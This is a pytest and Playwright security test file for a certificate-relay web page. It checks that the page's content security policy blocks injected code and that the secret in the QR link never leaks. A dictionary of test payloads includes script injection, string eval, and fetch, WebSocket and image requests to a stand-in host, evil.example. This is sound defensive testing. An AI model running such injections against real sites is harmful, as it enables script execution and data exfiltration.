"""What a hostile peer, page or network tries on the page, and what it gets."""

import socket
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from certrelay.testkit.ca import Issued
from tests.web_phone.conftest import PASSWORD, write_files
from tests.web_phone.in_browser import A_PAGE, FAILED_VECTORS, serving
from tests.web_phone.pc import Pc
from tests.web_phone.phone import Phone, say

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Route

StartPc = Callable[..., tuple[Pc, str]]

BLOCKED = {
    "an inline script": """
      const script = document.createElement("script");
      script.append("window.ran = 1"); document.body.append(script);""",
    "a script of another host": """
      await import("https://evil.example/x.js"); window.ran = 1;""",
    "a script under a data URL": """
      await import("data:text/javascript,window.ran = 1"); window.ran = 1;""",
    "text that becomes code": "setTimeout('window.ran = 1', 0);",
    "markup from a text": "document.body.innerHTML = '<b>x</b>'; window.ran = 1;",
    "a policy for markup": "trustedTypes.createPolicy('x', {}); window.ran = 1;",
    "an event handler in markup": """
      document.body.setAttribute("onclick", "window.ran = 1"); document.body.click();""",
    "a request to another host": "await fetch('https://evil.example/'); window.ran = 1;",
    "a socket to another host": "new WebSocket('wss://evil.example/').onopen = window.ran;",
    "a picture of another host": "new Image().src = 'https://evil.example/x.png';",
    "a form that is sent": """
      const form = document.createElement("form");
      form.method = "post"; document.body.append(form); form.submit();""",
}


@pytest.mark.attack(22, 35, 36)
@pytest.mark.parametrize("trick", BLOCKED)
def test_the_policy_blocks(browser: "Browser", origin: str, trick: str) -> None:
    page = browser.new_page()
    page.goto(origin)
    page.locator("main h1").wait_for()
    page.evaluate(
        "() => { window.violations = 0; document.addEventListener("
        "'securitypolicyviolation', () => { window.violations += 1; }); }"
    )
    page.evaluate(f"async () => {{ try {{ {BLOCKED[trick]} }} catch {{ /* as it should */ }} }}")
    page.wait_for_function("() => window.violations > 0")
    assert page.evaluate("window.ran") is None
    page.close()


@pytest.mark.attack(35)
def test_a_script_that_was_changed_does_not_run(browser: "Browser", origin: str) -> None:
    page = browser.new_page()

    def change(route: "Route") -> None:
        response = route.fetch()
        route.fulfill(response=response, body=response.text() + "\nwindow.ran = 1;")

    page.route("**/page.js", change)
    page.goto(origin)
    page.locator("#not-started h1").wait_for()
    assert page.evaluate("window.ran") is None
    assert page.locator("#page h1").count() == 0
    page.unroute_all(behavior="ignoreErrors")
    page.close()


def test_a_page_that_did_not_arrive_says_so_and_opens_again_with_the_same_code(
    browser: "Browser", origin: str, start_pc: StartPc
) -> None:
    _, url = start_pc("import", origin)
    page = browser.new_page(locale="ko-KR")
    page.route("**/page.js", lambda route: route.abort())
    page.goto(url)
    notice = page.locator("#not-started")
    notice.locator("h1").wait_for()
    assert "Safari 14" in notice.inner_text()
    assert page.evaluate("[location.hash, document.documentElement.scrollWidth <= innerWidth]") == [
        "",
        True,
    ]
    page.unroute_all()
    notice.get_by_role("button").click()
    page.locator("#page input[type=file]").first.wait_for(state="attached")
    assert page.evaluate("location.hash") == ""
    page.close()


def test_the_language_changes_without_a_network(phone: Phone, origin: str) -> None:
    phone.scan(origin)
    phone.page.locator("html[lang=ko] main h1").wait_for()
    phone.context.set_offline(True)
    phone.page.locator("header button").click()
    phone.page.locator("html[lang=en] main h1").wait_for()


@pytest.mark.attack(34)
def test_the_secret_leaves_the_address_bar_before_anything_is_fetched(
    phone: Phone, origin: str, start_pc: StartPc
) -> None:
    _, url = start_pc("import", origin)
    phone.page.add_init_script(
        """window.order = [];
        const note = (owner, name) => {
          const real = owner[name];
          owner[name] = function (...given) {
            window.order.push(name + (name === "replaceState" ? given[2] : ""));
            return new.target ? new real(...given) : real.apply(this, given);
          };
        };
        note(history, "replaceState"); note(window, "fetch");"""
    )
    phone.scan(url)
    phone.is_at(say("page.send.title"))
    assert phone.page.url == origin
    assert phone.page.evaluate("window.order") == ["replaceState/"]
    assert "#" not in phone.page.evaluate("document.URL + document.referrer")
    assert phone.page.evaluate("history.length") == 2  # the empty tab, and one entry without it
    assert len(phone.requests) > 2
    for request in phone.requests:
        assert "referer" not in request.all_headers(), request.url
        assert request.is_navigation_request() or "#" not in request.url


@pytest.mark.attack(7)
def test_nothing_leaves_the_phone_without_the_typed_number(
    phone: Phone, origin: str, start_pc: StartPc, issued: Issued, tmp_path: Path
) -> None:
    pc, url = start_pc("import", origin, "--yes")
    phone.scan(url)
    phone.is_at(say("page.send.title"))
    phone.pick(*write_files(issued.npki(PASSWORD), tmp_path / "phone"))
    assert phone.page.get_by_role("button", name=say("page.send.next")).count() == 0
    phone.unlock(PASSWORD)
    phone.tap(say("page.send.next"))
    phone.sees(say("page.number.warning"))
    for typed in ("", "12345", "abcdef"):
        phone.type_number(typed)
        phone.sees(say("page.number.format"))
    phone.tap(say("page.cancel"))
    assert pc.status() == 12
    assert not any(event["event"] == "offer" for event in pc.seen)


@pytest.mark.parametrize(
    ("change", "text"),
    [
        (lambda url: url[:-1], "잘렸거나 잘못"),
        (lambda url: url + "0", "잘렸거나 잘못"),
        (lambda url: url.replace("#", "?x=1#"), say("page.error.qr_origin")),
        (lambda url: url.partition("#")[0] + "#" + "9" * 158, "잘렸거나 잘못"),
    ],
)
def test_a_damaged_code_is_refused_before_the_relay_is_asked(
    phone: Phone, origin: str, start_pc: StartPc, change: Callable[[str], str], text: str
) -> None:
    _, url = start_pc("import", origin)
    sockets: list[Any] = []
    phone.page.on("websocket", lambda socket: sockets.append(socket.url))
    phone.scan(change(url))
    phone.sees(text)
    assert sockets == []


def test_a_code_scanned_in_an_open_page_starts_anew(
    phone: Phone, origin: str, start_pc: StartPc
) -> None:
    phone.scan(origin)
    phone.is_at(say("page.start.title"))
    first, url = start_pc("import", origin)
    phone.page.evaluate("(url) => { location.href = url; }", url)
    phone.is_at(say("page.send.title"))
    _, other = start_pc("import", origin)
    phone.page.evaluate("(url) => { location.href = url; }", other)
    assert first.status() == 12
    phone.is_at(say("page.send.title"))


@pytest.fixture
def sources() -> Iterator[str]:
    """The project's own files over http, for what is tested inside a browser."""
    with serving(socket.create_server(("127.0.0.1", 0))) as address:
        yield address


def test_the_vectors_hold_in_the_browser_too(browser: "Browser", sources: str) -> None:
    page = browser.new_page()
    page.goto(f"{sources}{A_PAGE}")
    failed = page.evaluate(FAILED_VECTORS)
    assert failed == []
    page.close()
